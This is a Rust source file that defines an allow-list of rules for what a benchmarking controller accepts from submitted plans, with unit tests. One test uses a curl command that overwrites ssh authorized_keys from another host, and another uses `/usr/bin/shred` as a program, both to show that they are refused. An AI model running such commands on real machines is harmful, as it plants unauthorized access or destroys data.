//! What a controller accepts. The rules are in its own file: submitting a plan is running code, and no server can widen them.

use std::path::Path;
use std::time::Duration;

use anyhow::Context;
use archive::model::{KnobValue, Plan, Vary};
use notation::source_text::SourceText;
use serde::Deserialize;

/// The file of rules. In each list, `*` is everything.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Rules {
    /// Workloads: names of built-in ones, or paths of folders.
    pub workloads: Vec<String>,
    /// Hosts that are reached by ssh, as plans write them: `user@host`.
    #[serde(default)]
    pub hosts: Vec<String>,
    /// The commands under which plans may start agents on these hosts, as plans write them: `sudo -n`.
    #[serde(default, rename = "become")]
    pub become_root: Vec<String>,
    /// Paths that knobs of plans may have as values, such as builds of servers, and the programs that `binary` may name.
    #[serde(default)]
    pub programs: Vec<String>,
    /// URLs of servers that plans may download from instead of the servers of a workload.
    #[serde(default)]
    pub urls: Vec<String>,
    /// Kernel settings that plans may set beside the usual ones of comparisons; no `*`.
    #[serde(default)]
    pub kernel_settings: Vec<String>,
    /// The most connections of a load.
    #[serde(default = "most")]
    pub most_connections: u32,
    /// The longest run; it is interrupted then.
    #[serde(default = "day", deserialize_with = "archive::model::length_text::deserialize")]
    pub longest: Duration,
}

/// The knob of each server that names its program.
const BINARY: &str = "binary";

fn most() -> u32 {
    u32::MAX
}

fn day() -> Duration {
    Duration::from_hours(24)
}

impl Rules {
    /// Reads a file.
    pub fn read(path: &Path) -> anyhow::Result<Self> {
        let text = std::fs::read_to_string(path)
            .with_context(|| format!("cannot read the rules {}", path.display()))?;
        let source = SourceText { file: &path.to_string_lossy(), text: &text };
        Ok(toml::from_str(&text).map_err(|error| source.toml_error(&error))?)
    }

    /// Those of the person who has started both server and controller: what this person may run on a terminal.
    pub fn of_owner() -> Self {
        let all = vec!["*".to_owned()];
        Self {
            workloads: all.clone(),
            hosts: all.clone(),
            become_root: all.clone(),
            programs: all.clone(),
            urls: all,
            kernel_settings: Vec::new(),
            most_connections: most(),
            longest: day(),
        }
    }

    /// In a line, for the page of controllers.
    pub fn in_a_line(&self) -> String {
        let hosts = if self.hosts.is_empty() { "none".to_owned() } else { self.hosts.join(", ") };
        let longest = humantime::format_duration(self.longest);
        format!("workloads {}; hosts behind ssh {hosts}; at most {longest}", self.workloads.join(", "))
    }

    /// Why a plan is not accepted; nothing where it is.
    pub fn check(&self, plan: &Plan) -> Result<(), String> {
        if plan.has_workload() && !has(&self.workloads, &plan.workload) {
            return Err(format!("workload {} is not in the list `workloads` of its rules", plan.workload));
        }
        if let Some(url) = plan.concurrency.as_ref().and_then(|steps| steps.url.as_ref())
            && !has(&self.urls, url)
        {
            return Err(format!("the URL {url} is not in the list `urls` of its rules"));
        }
        for host in &plan.hosts {
            if let Some(ssh) = &host.ssh
                && !has(&self.hosts, ssh)
            {
                return Err(format!("host {ssh} is not in the list `hosts` of its rules"));
            }
            // It is a command that the shell of the host runs.
            if let Some(command) = &host.become_root
                && !has(&self.become_root, command)
            {
                return Err(format!(
                    "the command {command:?} of host {} is not in the list `become` of its rules",
                    host.name
                ));
            }
        }
        for (knob, value) in knobs(plan) {
            // The start of a server runs it, with the rights of the run.
            if is_path(knob, value) && !has(&self.programs, value) {
                return Err(format!("{knob}={value} is not in the list `programs` of its rules"));
            }
        }
        let (asked, what) = most_asked(plan);
        if asked > f64::from(self.most_connections) {
            let most = self.most_connections;
            return Err(format!("{what} is {asked}, and its rules allow {most} (`most_connections`)"));
        }
        Ok(())
    }
}

/// The knobs that a plan sets to a text, in a variant or by an axis, with the text.
fn knobs(plan: &Plan) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    let of_variants = plan.variants.iter().flat_map(|variant| &variant.knobs);
    let of_axes = plan.sweep.iter().filter_map(|axis| match &axis.vary {
        Vary::Knob(name) => Some(axis.values.iter().map(move |value| (name, value))),
        _ => None,
    });
    for (name, value) in of_variants.chain(of_axes.flatten()) {
        if let KnobValue::Text(text) = value {
            found.push((name.as_str(), text.as_str()));
        }
    }
    found
}

/// Whether a value names a file of the machine: a path, or the program of a server, which is also found by its name.
fn is_path(knob: &str, value: &str) -> bool {
    value.contains('/') || knob == BINARY
}

/// The most connections that a plan asks for at once by one of its keys, and the key.
fn most_asked(plan: &Plan) -> (f64, String) {
    let mut most = (f64::from(plan.load.connections), "load.connections".to_owned());
    let mut others = Vec::new();
    if let Some(background) = &plan.background {
        others.push((f64::from(background.connections), "background.connections".to_owned()));
    }
    if let Some(steps) = &plan.concurrency {
        others.push((f64::from(steps.from.max(steps.to)), "concurrency.to".to_owned()));
    }
    for axis in &plan.sweep {
        // A knob of a server has another meaning; a rate opens no connection.
        if matches!(axis.vary, Vary::Connections | Vary::Users) {
            for value in &axis.values {
                // What is no number is refused by whoever reads the plan.
                others
                    .push((value.as_f64().unwrap_or_default(), format!("a value of the axis {}", axis.vary)));
            }
        }
    }
    for other in others {
        if other.0 > most.0 {
            most = other;
        }
    }
    most
}

fn has(list: &[String], name: &str) -> bool {
    list.iter().any(|known| known == "*" || known == name)
}

#[cfg(test)]
mod tests {
    use archive::model::{Axis, PlannedBackground, PlannedConcurrency, PlannedHost, RunKind};

    use super::*;

    type Tested = Result<(), Box<dyn std::error::Error>>;

    fn plan() -> Result<Plan, Box<dyn std::error::Error>> {
        let root = tempfile::tempdir()?;
        let id = archive::example::comparison(root.path(), 1)?;
        Ok(archive::Run::open(&root.path().join(id.as_str()))?.plan.ok_or("a plan")?)
    }

    fn why(rules: &Rules, plan: &Plan) -> String {
        rules.check(plan).expect_err("the rules do not allow it")
    }

    fn downloads(url: Option<&str>) -> Result<PlannedConcurrency, toml::de::Error> {
        let url = url.map(|url| format!("url = {url:?}\n")).unwrap_or_default();
        toml::from_str(&format!(
            "from = 8\nto = 1000000\nstep = 2.0\nfiner = 0\nuntil_availability = 0.9\npace_bytes_per_s = 1e4\nhold = \"2s\"\n\
             hold_last = \"2s\"\nbegin_per_s = 100.0\ncomfort_availability = 1.0\ncomfort_first_byte = \"5s\"\n{url}"
        ))
    }

    fn on_a_host(become_root: Option<&str>) -> Result<Plan, Box<dyn std::error::Error>> {
        let host = PlannedHost {
            name: "lab1".to_owned(),
            ssh: Some("ops@lab1".to_owned()),
            address: "10.0.0.1".to_owned(),
            kind: None,
            cpus: None,
            become_root: become_root.map(str::to_owned),
        };
        Ok(Plan { hosts: vec![host], ..plan()? })
    }

    fn with_knob(knob: &str, value: &str) -> Result<Plan, Box<dyn std::error::Error>> {
        let mut plan = plan()?;
        plan.variants[0].knobs.insert(knob.to_owned(), value.into());
        Ok(plan)
    }

    fn axis(vary: Vary, values: &[u32]) -> Axis {
        let values = values.iter().map(|value| KnobValue::Integer(i64::from(*value))).collect();
        Axis { vary, values }
    }

    #[test]
    fn a_plan_is_refused_by_the_first_rule_that_it_breaks() -> Tested {
        let plan = plan()?;
        assert_eq!(Rules::of_owner().check(&plan), Ok(()));
        let rules: Rules = toml::from_str("workloads = [\"cache\"]\nlongest = \"2h\"")?;
        assert_eq!(rules.longest, Duration::from_hours(2));
        let workload = format!("workload {} is not in the list `workloads` of its rules", plan.workload);
        assert_eq!(why(&rules, &plan), workload);
        assert!(toml::from_str::<Rules>("workload = []").is_err(), "an unknown key is no rule");
        Ok(())
    }

    #[test]
    fn a_command_that_gives_roots_rights_is_allowed_by_name() -> Tested {
        let curl = "curl -so .ssh/authorized_keys http://10.0.0.9/k";
        let none: Rules = toml::from_str("workloads = [\"*\"]\nhosts = [\"ops@lab1\"]")?;
        assert_eq!(none.check(&on_a_host(None)?), Ok(()));
        for command in [Some(curl), Some("sudo -n")] {
            let refused = why(&none, &on_a_host(command)?);
            assert!(refused.contains("host lab1 is not in the list `become`"), "{refused}");
        }
        let sudo: Rules =
            toml::from_str("workloads = [\"*\"]\nhosts = [\"ops@lab1\"]\nbecome = [\"sudo -n\"]")?;
        assert_eq!(sudo.check(&on_a_host(Some("sudo -n"))?), Ok(()));
        assert!(sudo.check(&on_a_host(Some("sudo -n curl"))?).is_err(), "the whole command is compared");
        Ok(())
    }

    #[test]
    fn a_url_is_allowed_by_name_and_does_not_replace_the_workload_of_a_comparison() -> Tested {
        let url = "http://10.0.0.7/";
        let of_url = Plan { kind: RunKind::Concurrency, concurrency: Some(downloads(Some(url))?), ..plan()? };
        let none: Rules = toml::from_str("workloads = [\"static-web\"]")?;
        assert_eq!(why(&none, &of_url), "the URL http://10.0.0.7/ is not in the list `urls` of its rules");
        let some: Rules = toml::from_str("workloads = [\"cache\"]\nurls = [\"http://10.0.0.7/\"]")?;
        assert_eq!(some.check(&of_url), Ok(()));
        let compare = Plan { kind: RunKind::Compare, ..of_url };
        assert!(why(&some, &compare).contains("`workloads`"));
        Ok(())
    }

    #[test]
    fn a_path_in_a_knob_is_allowed_by_name() -> Tested {
        let none: Rules = toml::from_str("workloads = [\"*\"]")?;
        for (knob, value) in [("binary", "/usr/bin/shred"), ("binary", "shred"), ("directory", "../other")] {
            let refused = why(&none, &with_knob(knob, value)?);
            assert_eq!(refused, format!("{knob}={value} is not in the list `programs` of its rules"));
        }
        let mut swept = plan()?;
        let values = vec!["/usr/bin/shred".into()];
        swept.sweep = vec![Axis { vary: Vary::Knob("binary".to_owned()), values }];
        assert!(why(&none, &swept).contains("`programs`"), "an axis sets it, too");
        assert_eq!(none.check(&with_knob("workers", "auto")?), Ok(()));
        let some: Rules = toml::from_str("workloads = [\"*\"]\nprograms = [\"/opt/nginx/nginx\"]")?;
        assert_eq!(some.check(&with_knob("binary", "/opt/nginx/nginx")?), Ok(()));
        assert!(some.check(&with_knob("binary", "/opt/nginx/nginx2")?).is_err());
        Ok(())
    }

    #[test]
    fn every_number_of_connections_is_limited() -> Tested {
        let plan = plan()?;
        let rules = Rules { most_connections: plan.load.connections, ..Rules::of_owner() };
        assert_eq!(rules.check(&plan), Ok(()));
        let more = plan.load.connections + 1;
        let mut load = plan.clone();
        load.load.connections = more;
        let background = PlannedBackground { rate_per_s: 1.0, connections: more };
        for (plan, key) in [
            (load, "load.connections"),
            (Plan { background: Some(background), ..plan.clone() }, "background.connections"),
            (Plan { concurrency: Some(downloads(None)?), ..plan.clone() }, "concurrency.to"),
            (Plan { sweep: vec![axis(Vary::Connections, &[1, more])], ..plan.clone() }, "connections"),
            (Plan { sweep: vec![axis(Vary::Users, &[more, 1])], ..plan.clone() }, "users"),
        ] {
            let refused = why(&rules, &plan);
            assert!(refused.contains(key) && refused.contains("`most_connections`"), "{refused}");
        }
        let knob = Plan { sweep: vec![axis(Vary::Knob("threads".to_owned()), &[more])], ..plan };
        assert_eq!(rules.check(&knob), Ok(()), "a knob of a server is no connection");
        Ok(())
    }
}
